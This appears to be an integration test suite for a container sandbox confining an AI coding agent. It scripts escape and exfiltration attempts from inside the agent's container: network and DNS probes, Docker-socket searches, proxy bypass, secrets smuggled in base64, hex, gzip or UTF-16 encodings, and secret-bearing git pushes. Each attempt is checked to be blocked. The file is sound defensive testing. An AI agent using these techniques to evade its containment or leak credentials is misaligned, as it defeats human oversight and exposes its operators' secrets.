// The escape battery: a real bottle on a real engine, probed from inside the agent.
// Every security invariant of docs/security.md has a test here. The "internet" is a
// local upstream container on networks this test creates (never outside addresses).
import { execFileSync, spawn, spawnSync } from "node:child_process";
import net from "node:net";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildUpstreamImage, createDemoWorld, DEMO_HOSTS, docker, dockerOk, UPSTREAM_IMAGE, waitFor, type DemoWorld } from "@bottle/test-utils";

const cliBin = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "..", "dist", "bin.js");

interface Plan {
  slug: string;
  networks: { internal: string; egress: string };
  machines: { bundle: string; agent: string };
}

// The battery runs twice in CI: as is (runc), and with the agent under gVisor from
// escape-runsc.int.test.ts, which sets BOTTLE_BATTERY_RUNTIME=runsc and imports this file.
const runtime = process.env.BOTTLE_BATTERY_RUNTIME === "runsc" ? ("runsc" as const) : undefined;

let world: DemoWorld;
const plans: Record<string, Plan> = {};

function bottle(args: string[], options: { allowFail?: boolean } = {}) {
  const res = spawnSync(process.execPath, [cliBin, ...args], { env: { ...process.env, ...world.env }, encoding: "utf8" });
  if (res.status !== 0 && !options.allowFail) throw new Error(`bottle ${args.join(" ")} → ${res.status}\n${res.stdout}\n${res.stderr}`);
  return { code: res.status ?? 1, stdout: res.stdout, stderr: res.stderr };
}

/** Runs a shell script as the agent user inside bottle `name`'s agent container. */
function agent(name: string, script: string, env: Record<string, string> = {}) {
  const res = spawnSync("docker", ["exec", ...Object.entries(env).flatMap(([k, v]) => ["-e", `${k}=${v}`]), "-u", "node", "-w", "/workspace", plans[name]!.machines.agent, "bash", "-c", script], { encoding: "utf8" });
  return { code: res.status ?? 1, out: `${res.stdout}${res.stderr}`.trim() };
}

/** Exit 0 only if a TCP connection opens within 4 s. */
const tcpProbe = (ip: string, port: number) => `timeout 4 bash -c '</dev/tcp/${ip}/${port}' 2>/dev/null`;

const ipOf = (container: string, network: string) => docker(["inspect", "-f", `{{(index .NetworkSettings.Networks "${network}").IPAddress}}`, container]);

function labelled(kind: "ps" | "network", slug: string): string[] {
  const args = kind === "ps" ? ["ps", "-a", "-q", "--filter", `label=dev.bottle.slug=${slug}`] : ["network", "ls", "-q", "--filter", `label=dev.bottle.slug=${slug}`];
  return docker(args).split("\n").filter(Boolean);
}

beforeAll(async () => {
  buildUpstreamImage();
  world = await createDemoWorld({ id: runtime ? `battery-${runtime}` : "battery", bottles: ["alpha", "beta", "gamma"], ...(runtime ? { runtime } : {}) });
  for (const name of ["alpha", "beta"]) {
    bottle(["start", name, "--detach", "-f", world.manifestPath]);
    plans[name] = JSON.parse(bottle(["plan", name, "-f", world.manifestPath, "--json"]).stdout) as Plan;
  }
  world.connectToBottle(plans.alpha!.networks.egress);
}, 600_000);

afterAll(() => {
  world?.disconnectFromBottles();
  for (const name of ["alpha", "beta", "gamma"]) if (plans[name]) bottle(["stop", plans[name]!.slug], { allowFail: true });
  world?.remove();
}, 300_000);

describe("the agent has no way out but the bundle", () => {
  if (runtime) {
    it(`runs every agent under ${runtime}, and the bundle under the engine's default`, () => {
      for (const name of ["alpha", "beta"]) expect(docker(["inspect", "-f", "{{.HostConfig.Runtime}}", plans[name]!.machines.agent])).toBe(runtime);
      expect(docker(["inspect", "-f", "{{.HostConfig.Runtime}}", plans.alpha!.machines.bundle])).not.toBe(runtime);
    });
  }

  it("cannot open TCP to the upstream's addresses, on the test network or the bottle's egress network", () => {
    const ips = [world.upstream.ipOn(world.network), world.upstream.ipOn(plans.alpha!.networks.egress)];
    // control: the same probe from the bundle (which is on the egress network) connects
    expect(spawnSync("docker", ["exec", plans.alpha!.machines.bundle, "bash", "-c", tcpProbe(ips[1]!, 443)]).status).toBe(0);
    for (const ip of ips) expect(agent("alpha", tcpProbe(ip, 443)).code, `TCP to ${ip}:443`).not.toBe(0);
  });

  it("gets no usable DNS for outside names", () => {
    for (const host of [DEMO_HOSTS.api, "example.com", "registry.npmjs.org"]) {
      const res = agent("alpha", `timeout 10 getent hosts ${host}`);
      expect(res.code, `getent ${host}: ${res.out}`).not.toBe(0);
    }
  });

  it("cannot send UDP out", () => {
    const ips = [world.upstream.ipOn(world.network), world.upstream.ipOn(plans.alpha!.networks.egress)];
    for (const ip of ips) agent("alpha", `for i in 1 2 3; do echo agent-udp-${ip} > /dev/udp/${ip}/5353; done; true`);
    // control datagram from a container that can reach the listener: once it arrived,
    // the agent's (sent earlier) would have too
    execFileSync("docker", ["run", "--rm", "--label", "dev.bottle.test=1", "--network", world.network, "--entrypoint", "bash", UPSTREAM_IMAGE, "-c", `echo control > /dev/udp/${ips[0]}/5353`]);
    waitFor(() => world.upstream.udpMessages().some((m) => m.text.trim() === "control"), "control datagram");
    expect(world.upstream.udpMessages().filter((m) => m.text.startsWith("agent-udp"))).toEqual([]);
  });

  it("cannot reach another bottle's bundle or agent", () => {
    const beta = plans.beta!;
    const targets = [
      [ipOf(beta.machines.bundle, beta.networks.internal), 8080],
      [ipOf(beta.machines.bundle, beta.networks.internal), 9418],
      [ipOf(beta.machines.bundle, beta.networks.egress), 8080],
      [ipOf(beta.machines.agent, beta.networks.internal), 22],
    ] as const;
    // control: beta's own agent reaches beta's bundle
    expect(agent("beta", tcpProbe(targets[0][0], 8080)).code).toBe(0);
    for (const [ip, port] of targets) expect(agent("alpha", tcpProbe(ip, port)).code, `${ip}:${port}`).not.toBe(0);
    expect(agent("alpha", "timeout 10 getent hosts " + beta.machines.bundle).code).not.toBe(0);
  });

  it("cannot reach the host's published ports or an engine socket", async () => {
    const server = net.createServer((socket) => socket.end("host service\n"));
    await new Promise<void>((resolve) => server.listen(0, "0.0.0.0", resolve));
    const port = (server.address() as net.AddressInfo).port;
    try {
      const gateways = [
        docker(["network", "inspect", "-f", "{{range .IPAM.Config}}{{.Gateway}}{{end}}", plans.alpha!.networks.internal]),
        docker(["network", "inspect", "-f", "{{range .IPAM.Config}}{{.Gateway}}{{end}}", "bridge"]),
        ...execFileSync("hostname", ["-I"], { encoding: "utf8" }).trim().split(/\s+/).filter((ip) => ip.includes(".")),
      ].filter(Boolean);
      // control: the host service answers from the bundle's side of the world
      expect(spawnSync("docker", ["exec", plans.alpha!.machines.bundle, "bash", "-c", tcpProbe(gateways[1]!, port)]).status).toBe(0);
      for (const ip of gateways) {
        expect(agent("alpha", tcpProbe(ip, port)).code, `host ${ip}:${port}`).not.toBe(0);
        expect(agent("alpha", tcpProbe(ip, 2375)).code, `engine ${ip}:2375`).not.toBe(0);
      }
      expect(agent("alpha", "ls -la /var/run/docker.sock /run/docker.sock 2>&1; find / -xdev -name 'docker.sock' 2>/dev/null | grep -q . && exit 0 || exit 3").code).toBe(3);
    } finally {
      server.close();
    }
  });

  it("gets nothing out with the proxy variables unset", () => {
    const ip = world.upstream.ipOn(plans.alpha!.networks.egress);
    const res = agent("alpha", `unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy; curl -sS -m 8 https://${DEMO_HOSTS.api}/ ; echo "name=$?"; curl -sS -k -m 8 https://${ip}/ ; echo "ip=$?"`);
    expect(res.out).toMatch(/name=(6|28)/);
    expect(res.out).toMatch(/ip=(7|28)/);
    expect(world.upstream.requests().filter((r) => r.headers["user-agent"]?.startsWith("curl") && !r.headers["x-api-key"])).toEqual([]);
  });
});

describe("egress policy", () => {
  it("lets an allowed route through and injects the credential the agent never sees", () => {
    const res = agent("alpha", `curl -sS -m 20 -H 'x-api-key: placeholder' https://${DEMO_HOSTS.api}/v1/messages -d '{"q":1}'`);
    expect(JSON.parse(res.out)).toMatchObject({ ok: true, host: DEMO_HOSTS.api });
    const seen = world.upstream.requests().filter((r) => r.url === "/v1/messages").at(-1)!;
    expect(seen.headers["x-api-key"]).toBe(world.apiKey);
    expect(res.out).not.toContain(world.apiKey);
  });

  it("keeps every secret out of the agent: env, files, git config", () => {
    const key = world.apiKey;
    const gateKey = execFileSync("cat", [world.material.clientKeyFile], { encoding: "utf8" }).split("\n")[1]!;
    for (const needle of [key, gateKey]) {
      const res = agent("alpha", `env | grep -F -- '${needle}'; git config --list --show-origin | grep -F -- '${needle}'; grep -rlF -- '${needle}' /home /workspace /etc /tmp /opt /usr/local/share 2>/dev/null; true`);
      expect(res.out).toBe("");
    }
    expect(agent("alpha", "ls -A ~/.ssh 2>/dev/null | wc -l").out).toBe("0");
  });

  it("denies an unknown host with guidance, and a wrong method on an allowed host", () => {
    const denied = agent("alpha", "curl -sS -m 20 -w '\\n%{http_code}' https://example.com/");
    expect(denied.out).toMatch(/was denied[\s\S]*request_egress_route[\s\S]*\n403$/);
    const method = agent("alpha", `curl -sS -m 20 -X DELETE -w '\\n%{http_code}' https://${DEMO_HOSTS.api}/v1/x`);
    expect(method.out).toMatch(/403$/);
  });

  it("blocks the secret, in every encoding, sent to an allowed host on another route", () => {
    const key = world.apiKey;
    const forms = {
      raw: key,
      base64: Buffer.from(key).toString("base64"),
      base64url: Buffer.from(key).toString("base64url"),
      hex: Buffer.from(key).toString("hex"),
      url: encodeURIComponent(`${key}&`),
    };
    for (const [encoding, value] of Object.entries(forms)) {
      const body = agent("alpha", `curl -sS -m 20 -w '\\n%{http_code}' -X POST https://${DEMO_HOSTS.docs}/upload --data-binary 'x=${value}'`);
      expect(body.out, `${encoding} in body`).toMatch(/403$/);
      const header = agent("alpha", `curl -sS -m 20 -w '\\n%{http_code}' -H 'x-token: ${value}' https://${DEMO_HOSTS.docs}/`);
      expect(header.out, `${encoding} in header`).toMatch(/403$/);
    }
    const clean = agent("alpha", `curl -sS -m 20 -w '\\n%{http_code}' -X POST https://${DEMO_HOSTS.docs}/upload --data-binary 'x=harmless'`);
    expect(clean.out).toMatch(/200$/);
    expect(world.upstream.requests().filter((r) => r.host === DEMO_HOSTS.docs && (r.body.includes(forms.hex) || r.body.includes(forms.base64)))).toEqual([]);
  });
});

describe("what the receiver decodes, cleartext, overrides, error texts (issue 13)", () => {
  /** Every other letter upper-cased: neither the all-lower nor the all-upper form. */
  const mixed = (text: string) => {
    let letters = 0;
    return [...text].map((c) => (/[a-z]/i.test(c) ? (letters++ % 2 ? c.toUpperCase() : c.toLowerCase()) : c)).join("");
  };
  const post = (bytes: Buffer, headers: string[]) =>
    agent("alpha", `echo ${bytes.toString("base64")} | base64 -d | curl -sS -m 20 -w '\\n%{http_code}' -X POST ${headers.map((h) => `-H '${h}'`).join(" ")} --data-binary @- https://${DEMO_HOSTS.docs}/upload`);

  it("blocks the key behind every encoding the receiver undoes, sent from the agent", () => {
    const key = world.apiKey;
    const probes: Record<string, [Buffer, string[]]> = {
      gzip: [gzipSync(`x=${key}`), ["content-encoding: gzip"]],
      "one escape next to a malformed one": [Buffer.from(`y=100%&x=${key.replace("k", "%6B")}`), []],
      "mixed-case hex": [Buffer.from(`x=${mixed(Buffer.from(key).toString("hex"))}`), []],
      "base64 with a line break": [Buffer.from(`x=${Buffer.from(key).toString("base64").replace(/^(.{10})/, "$1\n")}`), []],
      "JSON \\u escapes": [Buffer.from(`{"x":"${[...key].map((c) => "\\u" + c.charCodeAt(0).toString(16).padStart(4, "0")).join("")}"}`), ["content-type: application/json"]],
      "charset=utf-16le": [Buffer.from(`x=${key}`, "utf16le"), ["content-type: text/plain; charset=utf-16le"]],
    };
    for (const [what, [bytes, headers]] of Object.entries(probes)) expect(post(bytes, headers).out, what).toMatch(/403$/);
    expect(post(Buffer.from("x=harmless"), []).out).toMatch(/200$/);
  });

  it("never sends the injected credential in cleartext: plain HTTP to the API host's TLS port is refused", () => {
    const res = agent("alpha", `curl -sS -m 20 -w '\\n%{http_code}' http://${DEMO_HOSTS.api}:443/v1/x`);
    expect(res.out).toMatch(/Plain HTTP[\s\S]*403$/);
  });

  it("refuses a method override on a method-limited route", () => {
    const res = agent("alpha", `curl -sS -m 20 -w '\\n%{http_code}' -X POST -H 'X-HTTP-Method-Override: DELETE' https://${DEMO_HOSTS.api}/v1/x`);
    expect(res.out).toMatch(/asks for another method[\s\S]*403$/);
  });

  it("keeps the key out of the 403 for a host name that carries it", () => {
    const host = `${world.apiKey.toLowerCase()}.example.com`;
    const res = agent("alpha", `curl -sS -m 20 -w '\\n%{http_code}' https://${host}/`);
    expect(res.out).toMatch(/403$/);
    expect(res.out.toLowerCase()).not.toContain(world.apiKey.toLowerCase());
  });
});

describe("git through the gate", () => {
  const upstreamHead = () => world.upstream.git("app", ["rev-parse", "main"]);

  it("clones through the gate", () => {
    const res = agent("alpha", `git clone -q ssh://git@${DEMO_HOSTS.git}/srv/git/app.git app && git -C app rev-parse HEAD`);
    expect(res.code, res.out).toBe(0);
    expect(res.out).toBe(upstreamHead());
  });

  it("rejects a push that adds a secret and leaves the upstream unchanged", () => {
    const before = upstreamHead();
    const res = agent(
      "alpha",
      "cd app && printf 'aws_access_key_id = AKIA4HK3Q7ZP2XW9RT6M\\naws_secret_access_key = k8Jd2PqL9xZ3vN7bR1tY5wH0mC4sF6gA2eU8iO3n\\n' > creds.ini && git add creds.ini && git commit -qm creds && git push origin HEAD:main",
    );
    expect(res.code).not.toBe(0);
    expect(res.out).toContain("creds.ini:2");
    expect(res.out).not.toContain("k8Jd2PqL9xZ3vN7bR1tY5wH0mC4sF6gA2eU8iO3n");
    expect(upstreamHead()).toBe(before);
  });

  it("rejects a tag that points at a blob holding a secret (objects, not commits)", () => {
    const res = agent(
      "alpha",
      "cd app && b=$(printf 'aws_secret_access_key = k8Jd2PqL9xZ3vN7bR1tY5wH0mC4sF6gA2eU8iO3n\\n' | git hash-object -w --stdin) && git tag blob-leak $b && git push origin refs/tags/blob-leak",
    );
    expect(res.code).not.toBe(0);
    expect(res.out).toContain("secretlint-rule-aws");
    expect(world.upstream.git("app", ["tag", "-l", "blob-leak"])).toBe("");
  });

  it("lands a clean push", () => {
    const res = agent("alpha", "cd app && git reset -q --hard origin/main && echo ok > CLEAN.md && git add CLEAN.md && git commit -qm clean && git push -q origin HEAD:main && git rev-parse HEAD");
    expect(res.code, res.out).toBe(0);
    expect(upstreamHead()).toBe(res.out.split("\n").at(-1));
  });
});

describe("supervise", () => {
  const mcp = `
    const url = process.env.SUPERVISE_URL;
    const call = async (id, method, params) => {
      const res = await fetch(url, { method: "POST", headers: { "content-type": "application/json", accept: "application/json, text/event-stream" }, body: JSON.stringify({ jsonrpc: "2.0", id, method, params }) });
      const text = await res.text();
      const data = text.split("\\n").filter((l) => l.startsWith("data:")).map((l) => l.slice(5)).join("") || text;
      return JSON.parse(data).result;
    };
    const [op, arg] = process.argv.slice(1);
    await call(1, "initialize", { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "battery", version: "1" } });
    if (op === "list") console.log(JSON.stringify((await call(2, "tools/list", {})).tools.map((t) => t.name)));
    else console.log((await call(3, "tools/call", { name: "request_egress_route", arguments: { host: arg, methods: ["GET"], reason: "battery" } })).content[0].text);
  `;

  it("is registered with the agent's MCP client and lists its tools", () => {
    const tools = agent("alpha", `node --input-type=module -e '${mcp.replace(/'/g, "'\\''")}' list`, { SUPERVISE_URL: "http://supervise:9100/mcp" });
    expect(JSON.parse(tools.out)).toEqual(expect.arrayContaining(["request_egress_route", "ask_human", "list_requests"]));
    const registered = agent("alpha", "cat ~/.claude.json 2>/dev/null");
    expect(registered.out).toContain("http://supervise:9100/mcp");
  });

  it("makes a host reachable once `bottle approve` approves the agent's request, without a restart", () => {
    const probe = `curl -sS -m 20 -o /dev/null -w '%{http_code}' https://${DEMO_HOSTS.late}/`;
    expect(agent("alpha", probe).out).toBe("403");
    const bundleStartedAt = docker(["inspect", "-f", "{{.State.StartedAt}}", plans.alpha!.machines.bundle]);
    const asked = agent("alpha", `node --input-type=module -e '${mcp.replace(/'/g, "'\\''")}' request ${DEMO_HOSTS.late}`, { SUPERVISE_URL: "http://supervise:9100/mcp" });
    const id = /req-[0-9a-f]{8}/.exec(asked.out)?.[0];
    expect(id, asked.out).toBeDefined();
    expect(bottle(["requests", plans.alpha!.slug]).stdout).toContain(id!);
    bottle(["approve", id!]);
    waitFor(() => agent("alpha", probe).out === "200", "the approved route to apply");
    expect(docker(["inspect", "-f", "{{.State.StartedAt}}", plans.alpha!.machines.bundle])).toBe(bundleStartedAt);
  });
});

describe("teardown", () => {
  it("`bottle stop` leaves no container, network or volume", () => {
    const volumesBefore = new Set(docker(["volume", "ls", "-q"]).split("\n").filter(Boolean));
    const beta = plans.beta!;
    bottle(["stop", beta.slug]);
    delete plans.beta;
    expect(labelled("ps", beta.slug)).toEqual([]);
    expect(labelled("network", beta.slug)).toEqual([]);
    const volumesAfter = docker(["volume", "ls", "-q"]).split("\n").filter(Boolean);
    expect(volumesAfter.filter((v) => !volumesBefore.has(v))).toEqual([]);
    expect(docker(["volume", "ls", "-q", "--filter", `label=dev.bottle.slug=${beta.slug}`])).toBe("");
  });

  it("SIGKILL of the CLI mid-start, then `bottle cleanup`, leaves nothing behind", async () => {
    const gamma = JSON.parse(bottle(["plan", "gamma", "-f", world.manifestPath, "--json"]).stdout) as Plan;
    const child = spawn(process.execPath, [cliBin, "start", "gamma", "--no-build", "-f", world.manifestPath], { env: { ...process.env, ...world.env }, stdio: ["ignore", "pipe", "pipe"] });
    await new Promise<void>((resolve, reject) => {
      child.stderr.on("data", (chunk: Buffer) => {
        if (chunk.toString().includes("bundle") && chunk.toString().includes("started")) resolve();
      });
      child.on("exit", () => reject(new Error("start ended before the bundle started")));
    });
    child.kill("SIGKILL");
    await new Promise((resolve) => child.on("exit", resolve));
    expect(labelled("ps", gamma.slug).length).toBeGreaterThan(0);
    const res = bottle(["cleanup", "--json"]);
    expect(res.code).toBe(0);
    expect(labelled("ps", gamma.slug)).toEqual([]);
    expect(labelled("network", gamma.slug)).toEqual([]);
    expect(dockerOk(["network", "inspect", gamma.networks.internal])).toBe(false);
  });
});
